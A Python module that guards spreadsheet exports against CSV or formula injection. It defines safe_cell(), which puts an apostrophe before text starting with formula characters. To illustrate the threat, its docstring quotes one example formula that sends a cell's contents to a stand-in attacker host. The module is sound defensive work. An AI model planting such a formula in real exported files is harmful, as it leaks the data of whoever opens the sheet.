"""Cells that are safe to open in a spreadsheet (CSV or formula injection, OWASP).

Excel, LibreOffice and Google Sheets run a cell as a formula when its text starts with ``=``, ``+``,
``-`` or ``@`` (and some also after a leading tab or carriage return). Every file the product writes
for people to open in a spreadsheet holds text that came from outside: group keys from an uploaded
data set, an email address typed at sign-in, a free-text nature of a complaint. A formula such as
``=HYPERLINK("https://evil.example/?"&A1)`` would leak the sheet. So a text cell starting like a formula
is written with a leading apostrophe, which spreadsheets show as plain text. Numbers are left alone: a
negative number is a number, not a formula.

Every CSV and Excel writer calls :func:`safe_cell` on every cell; this is the one implementation.
"""

from __future__ import annotations

from typing import Final, TypeVar

FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")

_T = TypeVar("_T")


def safe_cell(value: _T) -> _T | str:
    """``value``, with an apostrophe in front when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return f"'{value}"
    return value
